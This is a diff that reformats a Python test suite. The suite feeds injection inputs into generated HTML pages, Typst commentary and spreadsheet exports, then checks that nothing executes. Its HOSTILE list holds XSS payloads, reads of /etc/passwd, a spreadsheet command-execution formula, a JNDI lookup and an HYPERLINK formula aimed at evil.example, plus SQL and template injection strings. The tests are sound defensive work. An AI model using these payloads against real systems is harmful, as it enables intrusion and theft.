@@ -27,12 +27,39 @@ from vomr.register.commentary import read_commentary
 PROJECT = Path(__file__).parents[2]
 RAN = "document.documentElement.dataset.ran=1"
 HOSTILE = (
-    f"<script>{RAN}</script>", f'"><img src=x onerror="{RAN}">', f"</td></table></main><svg onload={RAN}>", f"'><iframe srcdoc='<script>parent.{RAN}</script>'>",
-    f'<a href="javascript:{RAN}">натисни</a>', f"[натисни](javascript:{RAN})", "![](file:///etc/passwd)", "<style>body{display:none}</style>", "<!--", "]]>", "&lt;script&gt;",
-    '#read("/etc/passwd")', '#panic("typst")', '#image("/etc/passwd")', "$ x^ #eval(\"1\") $ ]) }", "*получер* _курсив_ `код` \\ @ref <label> // край", "#import \"@preview/x:1.0.0\"",
-    '=HYPERLINK("http://evil.example","x")', "=1+1", "+1+1", "-2+3", "@SUM(A1)", "=cmd|'/C calc'!A0", "\t=1+1", "{{ 7*7 }} {% raw %}", "{n} {day} {value!r} {0.__class__}", "%s %n %(x)d",
-    "${jndi:ldap://evil.example}", "\u202eгръб\u202c", "a\u200bb\u00ad\ufeff", "'; DROP TABLE projects; --", "много " * 60,
-)  # fmt: skip
+    f"<script>{RAN}</script>",
+    f'"><img src=x onerror="{RAN}">',
+    f"</td></table></main><svg onload={RAN}>",
+    f"'><iframe srcdoc='<script>parent.{RAN}</script>'>",
+    f'<a href="javascript:{RAN}">натисни</a>',
+    f"[натисни](javascript:{RAN})",
+    "![](file:///etc/passwd)",
+    "<style>body{display:none}</style>",
+    "<!--",
+    "]]>",
+    "&lt;script&gt;",
+    '#read("/etc/passwd")',
+    '#panic("typst")',
+    '#image("/etc/passwd")',
+    '$ x^ #eval("1") $ ]) }',
+    "*получер* _курсив_ `код` \\ @ref <label> // край",
+    '#import "@preview/x:1.0.0"',
+    '=HYPERLINK("http://evil.example","x")',
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "=cmd|'/C calc'!A0",
+    "\t=1+1",
+    "{{ 7*7 }} {% raw %}",
+    "{n} {day} {value!r} {0.__class__}",
+    "%s %n %(x)d",
+    "${jndi:ldap://evil.example}",
+    "\u202eгръб\u202c",
+    "a\u200bb\u00ad\ufeff",
+    "'; DROP TABLE projects; --",
+    "много " * 60,
+)
 
 
 @pytest.fixture(scope="module")
@@ -47,9 +74,13 @@ def hostile(tmp_path_factory) -> Pack:
             rows = list(csv.DictReader(stream))
         columns = list(dict.fromkeys([*rows[0], *(column.name for column in table.columns)]))
         free = [
-            column.name for column in table.columns
-            if column.type is Type.TEXT and not column.key and not column.references and column.name not in ("applicant_id", "unit_key", "municipality", "key", "table", "column", "was", "now")
-        ]  # fmt: skip
+            column.name
+            for column in table.columns
+            if column.type is Type.TEXT
+            and not column.key
+            and not column.references
+            and column.name not in ("applicant_id", "unit_key", "municipality", "key", "table", "column", "was", "now")
+        ]
         for row in rows if path.stem != "corrections" else []:
             row.update({name: next(texts) for name in free})
         with path.open("w", encoding="utf-8", newline="") as stream:
@@ -57,9 +88,12 @@ def hostile(tmp_path_factory) -> Pack:
             writer.writeheader()
             writer.writerows(rows)
     (base / "s" / "commentary" / "2028-Q2.md").write_text(
-        "".join(f"# {part}\n\n" + "\n\n".join(HOSTILE) + "\n\n" for part in ("overview", "absorption", "quality", "Обобщен преглед")),
+        "".join(
+            f"# {part}\n\n" + "\n\n".join(HOSTILE) + "\n\n"
+            for part in ("overview", "absorption", "quality", "Обобщен преглед")
+        ),
         encoding="utf-8",
-    )  # fmt: skip
+    )
     toml = (base / "s" / "strategy.toml").read_text(encoding="utf-8")
     name = next(line for line in toml.splitlines() if line.startswith("name ="))
     evil = HOSTILE[0] + HOSTILE[11] + "{n}"
@@ -70,8 +104,9 @@ def hostile(tmp_path_factory) -> Pack:
 def test_pages_hold_texts_and_nothing_that_runs(hostile, primer):
     for path in hostile.folder.glob("*.html"):
         page, plain = (
-            BeautifulSoup((folder / path.name).read_text(encoding="utf-8"), "html.parser") for folder in (hostile.folder, primer.folder)
-        )  # fmt: skip
+            BeautifulSoup((folder / path.name).read_text(encoding="utf-8"), "html.parser")
+            for folder in (hostile.folder, primer.folder)
+        )
         scripts, known = ([str(script) for script in one.find_all("script")] for one in (page, plain))
         assert scripts == known, path.name
         for tag in page.find_all(True):
@@ -104,7 +139,8 @@ def test_no_script_runs_in_a_browser(hostile):
         for path in sorted(hostile.folder.glob("*.html")):
             page.goto(path.as_uri())
             page.evaluate(
-                "document.querySelectorAll('main a, main details, main img').forEach(one => one.dispatchEvent(new Event('mouseover')))"
+                "document.querySelectorAll('main a, main details, main img').forEach(one => one.dispatchEvent(new"
+                " Event('mouseover')))"
             )
             page.wait_for_timeout(50)
             assert page.evaluate("document.documentElement.dataset.ran") is None, path.name
@@ -138,12 +174,34 @@ def test_workbook_and_open_data_hold_no_formula(hostile):
                 ), (path.name, cell)
 
 
-# --- readers ------------------------------------------------------------------------------------------------------------
+# --- readers
+# ------------------------------------------------------------------------------------------------------------
 
 _CELLS = st.one_of(
-    st.sampled_from(["", "EUR", "BGN", "да", "2026-13-45", "31.02.2026", "1 234,56", "-0", "1e400", "NaN", "#REF!", "9" * 60, "٣", "\u22121", *HOSTILE]),
-    st.text(max_size=12), st.integers(-(10**20), 10**20).map(str), st.dates().map(str), st.floats().map(str),
-)  # fmt: skip
+    st.sampled_from(
+        [
+            "",
+            "EUR",
+            "BGN",
+            "да",
+            "2026-13-45",
+            "31.02.2026",
+            "1 234,56",
+            "-0",
+            "1e400",
+            "NaN",
+            "#REF!",
+            "9" * 60,
+            "٣",
+            "\u22121",
+            *HOSTILE,
+        ]
+    ),
+    st.text(max_size=12),
+    st.integers(-(10**20), 10**20).map(str),
+    st.dates().map(str),
+    st.floats().map(str),
+)
 
 
 def _outcome(folder: Path) -> None:
@@ -181,9 +239,11 @@ def _fuzz(base: Path, examples: int) -> None:
     toml = (folder / "strategy.toml").read_bytes()
     workbook = _workbook(folder)
     common = settings(
-        max_examples=examples, deadline=None, database=None,
+        max_examples=examples,
+        deadline=None,
+        database=None,
         suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
-    )  # fmt: skip
+    )
 
     @common
     @given(tables_of_anything)
@@ -195,9 +255,11 @@ def _fuzz(base: Path, examples: int) -> None:
         finally:
             for name in found:
                 shipped = PROJECT / "data" / "nevestino" / f"{name}.csv"
-                (folder / f"{name}.csv").write_bytes(shipped.read_bytes()) if shipped.is_file() else (
-                    folder / f"{name}.csv"
-                ).unlink()
+                (
+                    (folder / f"{name}.csv").write_bytes(shipped.read_bytes())
+                    if shipped.is_file()
+                    else (folder / f"{name}.csv").unlink()
+                )
 
     @common
     @given(
